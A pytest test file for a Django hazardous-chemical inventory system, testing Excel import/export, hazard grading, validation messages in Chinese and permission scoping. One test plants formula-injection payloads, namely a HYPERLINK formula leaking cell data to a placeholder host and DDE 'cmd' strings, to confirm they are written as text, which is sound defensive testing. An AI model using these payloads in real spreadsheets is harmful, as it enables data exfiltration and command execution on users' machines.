"""The units' inventories in Excel: an import registers units and their chemicals and each
unit is identified and graded as when typed; the export has the import's columns, so it
imports back changing nothing, and an edited export changes what was edited; bad input is
answered by row and column in Chinese — a negative quantity, a quantity in words, an
unknown CAS number, a unit without a chemical — and nothing is written; an enterprise
imports only its own units, a department only those in its scope; no planted string
becomes a formula.

Figures (RULES.md §1): 氯 Q 5 t β 4; 氨 Q 10 t β 2. 120 people within 500 m: α 2. 10 t of
氯: S 2, R 16 → 三级; 20 t of 氨 as well: S 4, R 2 × (8 + 4) = 24 → 三级."""

from decimal import Decimal
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from anjian.core import excel_import
from anjian.core.exceptions import NotPermitted
from anjian.core.models import BackgroundJob, JobStatus
from anjian.hazchem import inventory_import
from anjian.hazchem.models import ChemicalUnit, InventoryLine, UnitEvaluation
from anjian.hazchem.tests import factories as make
from testsupport import world
from testsupport.hostile_xlsx import text_workbook

pytestmark = pytest.mark.django_db

SPEC = inventory_import.SPEC
HEADERS = [c.header for c in SPEC.columns if c.importable]
QUANTITY = "设计最大量须为大于0、不超过100万的数字（吨）"


def code(name="yinhang_chemical") -> str:
    return world.enterprise(name).credit_code


def xlsx(rows: list[dict]) -> BytesIO:
    book = Workbook()
    sheet = book.active
    sheet.append(HEADERS)
    keys = [c.key for c in SPEC.columns if c.importable]
    for values in rows:
        sheet.append([values.get(key) for key in keys])
    buffer = BytesIO()
    book.save(buffer)
    buffer.seek(0)
    return buffer


def run(rows, by=None, **options):
    by = by or world.actor("district_official")
    return excel_import.import_file(by, SPEC, xlsx(rows), **options)


def row(**overrides) -> dict:
    values = {
        "enterprise": code(),
        "name": "液氯储罐区",
        "kind": "储存单元",
        "population_500m": 120,
        "chemical": "氯",
        "max_quantity": 10,
    }
    values.update(overrides)
    return values


def unit_named(name: str) -> ChemicalUnit:
    return ChemicalUnit.objects.get(name=name, active=True)


# --- importing --------------------------------------------------------------------------------


def test_units_and_their_chemicals_are_registered_and_graded_as_when_typed():
    result = run(
        [
            row(),
            row(chemical="7664-41-7", max_quantity="20"),  # 氨 by its CAS number
            row(name="甲醇库", chemical="木醇", max_quantity=100),  # not an alias: refused
        ],
        mode="valid",
    )
    assert result.created == 2 and list(result.errors) == [4]
    assert result.errors[4][0].startswith("【危险化学品】危险化学品目录中没有“木醇”")
    assert result.followup == "涉及 1 个单元，其中 1 个构成重大危险源"
    unit = unit_named("液氯储罐区")
    assert (unit.enterprise, unit.kind, unit.population_500m) == (
        world.enterprise("yinhang_chemical"),
        "storage",
        120,
    )
    assert (unit.s_value, unit.r_value, unit.grade) == (
        Decimal("4.000000"),
        Decimal("24.000000"),
        "3",
    )
    assert make.source_of(unit).grade == "3"
    assert UnitEvaluation.objects.filter(unit=unit).count() == 3  # registered, +氯, +氨


def test_an_export_imports_back_changing_nothing_and_an_edited_one_changes_what_was_edited(
    client_for,
):
    run([row(), row(chemical="氨", max_quantity=20, note="液氨"), row(name="氨库", chemical="氨")])
    versions = {line.pk: line.version for line in InventoryLine.objects.all()}
    history = UnitEvaluation.objects.count()
    client = client_for(world.actor("district_official"))
    exported = client.get(reverse("hazchem:inventory_export"))
    assert exported.status_code == 200
    book = load_workbook(BytesIO(exported.content))
    sheet = book.worksheets[0]
    assert [c.value for c in sheet[1]] == [c.header for c in SPEC.columns]
    assert sheet.max_row == 4

    again = BytesIO(exported.content)
    result = excel_import.import_file(world.actor("district_official"), SPEC, again)
    assert (result.created, result.errors) == (3, {})
    assert {line.pk: line.version for line in InventoryLine.objects.all()} == versions
    assert UnitEvaluation.objects.count() == history

    headers = [c.value for c in sheet[1]]
    quantity, chemical = headers.index("设计最大量（吨）") + 1, headers.index("危险化学品") + 1
    for number in range(2, 5):
        if sheet.cell(row=number, column=chemical).value == "氯":
            sheet.cell(row=number, column=quantity, value=2)
    edited = BytesIO()
    book.save(edited)
    edited.seek(0)
    result = excel_import.import_file(world.actor("district_official"), SPEC, edited)
    assert result.errors == {}
    store = unit_named("液氯储罐区")
    assert store.lines.get(chemical__name="氯").max_quantity == Decimal("2")
    assert store.evaluations.first().reason == "氯 设计最大量 10 → 2 吨"


@pytest.mark.parametrize(
    ("changes", "message"),
    [
        ({"max_quantity": -3}, f"【设计最大量（吨）】{QUANTITY}"),
        ({"max_quantity": "十吨"}, f"【设计最大量（吨）】{QUANTITY}"),
        ({"max_quantity": None}, f"【设计最大量（吨）】{QUANTITY}"),
        (
            {"chemical": "50-00-1"},
            "【危险化学品】CAS号“50-00-1”校验位不正确",
        ),
        (
            {"chemical": "7440-44-0"},
            "【危险化学品】危险化学品目录中没有CAS号为7440-44-0的条目（或已停用），请核对或请管理员补充目录",
        ),
        ({"chemical": None}, "【危险化学品】请填写危险化学品：每个单元至少登记一种危险化学品"),
        ({"kind": "仓库"}, "【单元类型】“仓库”无效，可选：生产单元、储存单元"),
        (
            {"mixture": "混合物"},
            "【纯物质/混合物】“混合物”无效，可选：纯物质、混合物（危险性类别与纯物质相同）、混合物（按自身危险性类别）",
        ),
        ({"enterprise": None}, "【单位统一社会信用代码】请填写单元所属单位的统一社会信用代码"),
        (
            {"enterprise": "{hongkou}"},  # the neighbouring district's 虹口超市
            "【单位统一社会信用代码】统一社会信用代码“{hongkou}”不是您管辖范围内登记的单位",
        ),
    ],
)
def test_bad_input_is_answered_on_its_cell_and_nothing_is_written(changes, message):
    hongkou = code("hongkou_shop")
    if changes.get("enterprise") == "{hongkou}":
        changes, message = {"enterprise": hongkou}, message.replace("{hongkou}", hongkou)
    result = run([row(name="好单元"), row(**changes)])
    assert result.created == 0
    assert result.errors == {3: [message]}
    assert not ChemicalUnit.objects.filter(name__in=["好单元", "液氯储罐区"]).exists()


def test_rows_of_one_unit_must_agree_and_a_row_is_not_imported_twice():
    result = run(
        [
            row(),
            row(chemical="氨", population_500m=10),
            row(),
        ]
    )
    assert result.errors == {
        3: ["【单元名称】与第2行是同一单元，但单元类型、边界、人口或经纬度与该行不一致"],
        4: ["【危险化学品】与第2行重复（同一单元的同一化学品）"],
    }


def test_a_major_hazard_source_that_cannot_be_graded_is_refused_with_the_engines_reason():
    result = run([row(chemical="甲醇", max_quantity=600)])  # S 1.2, 甲醇 has no β yet
    assert "无法确定校正系数β" in result.errors[2][0]
    assert not ChemicalUnit.objects.filter(name="液氯储罐区").exists()


def test_an_enterprise_imports_only_its_own_units():
    manager = world.actor("enterprise_manager")
    result = run([row(enterprise=None), row(name="二号库", enterprise=code())], by=manager)
    assert (result.created, result.errors) == (2, {})
    assert set(ChemicalUnit.objects.values_list("enterprise__name", flat=True)) == {
        world.enterprise("yinhang_chemical").name
    }
    result = run([row(name="别人的库", enterprise=code("pingliang_factory"))], by=manager)
    assert result.errors == {2: ["【单位统一社会信用代码】单位用户只能导入本单位的单元（可空白）"]}


def test_only_those_who_keep_units_import_them():
    with pytest.raises(NotPermitted):
        run([row()], by=world.actor("leader"))


# --- no formulas ------------------------------------------------------------------------------


def test_the_export_and_the_error_file_write_planted_formulas_as_text(client_for):
    formula, plus = '=HYPERLINK("http://x.example/?"&C2,"张三")', "+1+cmd|' /C calc'!A0"
    make.add(make.unit(name=formula), "氯", "1", note=plus)  # planted through the services
    exported = client_for(world.actor("district_official")).get(reverse("hazchem:inventory_export"))
    cells = [c for s in load_workbook(BytesIO(exported.content)).worksheets for r in s for c in r]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {formula, plus} <= {c.value for c in cells if c.data_type == "s"}

    hostile = dict.fromkeys(HEADERS, "")
    hostile.update(
        {"单元名称": "-1+cmd|' /C calc'!A0", "危险化学品": "@SUM(1)", "单元类型": "储存单元"}
    )
    hostile["单位统一社会信用代码"] = code()
    hostile["设计最大量（吨）"] = "=1+1"
    upload = BytesIO(text_workbook(HEADERS, [[hostile[h] for h in HEADERS]]))
    result = excel_import.import_file(world.actor("district_official"), SPEC, upload)
    assert result.errors
    cells = [
        c
        for s in load_workbook(BytesIO(excel_import.error_file(result))).worksheets
        for r in s
        for c in r
    ]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert {"-1+cmd|' /C calc'!A0", "@SUM(1)", "=1+1"} <= {
        c.value for c in cells if c.data_type == "s"
    }


# --- the pages --------------------------------------------------------------------------------


def test_the_upload_runs_as_a_job_and_the_list_offers_import_and_export(
    client_for, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    client = client_for(world.actor("enterprise_manager"))
    listing = client.get(reverse("hazchem:unit_list")).content.decode()
    assert reverse("hazchem:inventory_import") in listing
    assert reverse("hazchem:inventory_export") in listing
    leader = client_for(world.actor("leader")).get(reverse("hazchem:unit_list")).content.decode()
    assert reverse("hazchem:inventory_import") not in leader
    template = client.get(reverse("hazchem:inventory_import_template"))
    assert template.status_code == 200
    upload = SimpleUploadedFile("储存量.xlsx", xlsx([row(enterprise=None)]).read())
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(reverse("hazchem:inventory_import"), {"file": upload, "mode": "all"})
    assert response.status_code == 302
    call_command("worker", batch=True, verbosity=0)
    job = BackgroundJob.objects.get(kind="hazchem_inventory_import")
    assert job.status == JobStatus.SUCCEEDED, job.message
    assert job.message == "已导入 1 条危险化学品单元储存量；涉及 1 个单元，其中 1 个构成重大危险源"
    assert unit_named("液氯储罐区").grade == "3"
